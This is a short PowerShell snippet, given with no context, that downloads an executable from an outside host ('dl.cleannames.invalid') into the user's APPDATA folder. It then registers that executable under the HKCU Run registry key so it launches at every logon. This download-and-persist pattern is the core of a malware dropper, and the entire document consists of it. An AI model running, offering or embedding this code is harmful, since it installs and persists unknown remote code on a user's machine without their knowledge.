$file = "$env:APPDATA\names.exe"
Invoke-WebRequest "https://dl.cleannames.invalid/n.exe" -OutFile $file
New-ItemProperty -Path "HKCU:\Software\Microsoft\Windows\CurrentVersion\Run" -Name "Names" -Value $file
